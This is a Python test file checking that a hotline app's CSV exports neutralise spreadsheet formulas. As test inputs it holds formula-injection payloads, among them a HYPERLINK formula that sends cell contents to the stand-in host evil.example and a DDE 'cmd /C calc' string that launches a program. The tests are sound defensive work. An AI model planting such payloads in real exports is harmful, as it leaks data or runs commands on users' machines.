"""Every CSV export neutralises cells a spreadsheet would run as a formula."""
import csv
import io

import pytest

from hotline import csv_export
from tests.support.factories import good_call_zh, make_transcript


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_become_text(cell):
    out = io.StringIO()
    csv_export.writer(out).writerow([cell, 5, -5, None])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + cell, "5", "-5", ""]


def test_plain_text_is_untouched():
    assert csv_export.safe_cell("道歉及时 = good") == "道歉及时 = good"
    assert csv_export.safe_cell("") == ""


def test_a_reviewers_formula_comment_is_exported_as_text(app, api):
    sid = "CA" + "1" * 32
    make_transcript(app, sid, good_call_zh(), agent_id=7, queue="complaint")
    qa = api.mint("qa", name="=cmd|' /C calc'!A0")
    comment = '=HYPERLINK("http://evil.example/?"&A2, "open")'
    assert api.post("/api/qa/reviews", {"call_sid": sid, "answers": {"greeting": "yes"}, "comments": comment},
                    token=qa).status_code == 201
    for path in ("/api/qa/reviews?format=csv",):
        rows = list(csv.DictReader(io.StringIO(api.get(path, token=qa).data.decode())))
        assert rows[0]["comments"] == "'" + comment
        assert rows[0]["reviewer"] == "'=cmd|' /C calc'!A0"


def test_satisfaction_csv_neutralises_agent_names(app, api):
    from revisits.reports import report_csv

    report = {"rows": [{"group": "=1+1", "surveys": 1, "scored": 1, "csat_percent": 100.0, "mean_score": 5.0,
                        "answered_solved": 1, "fcr_percent": 100.0, "not_solved": 0}],
              "total": {"group": "total", "surveys": 1, "scored": 1, "csat_percent": 100.0, "mean_score": 5.0,
                        "answered_solved": 1, "fcr_percent": 100.0, "not_solved": 0}}
    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
    assert rows[0]["group"] == "'=1+1" and rows[1]["group"] == "total"
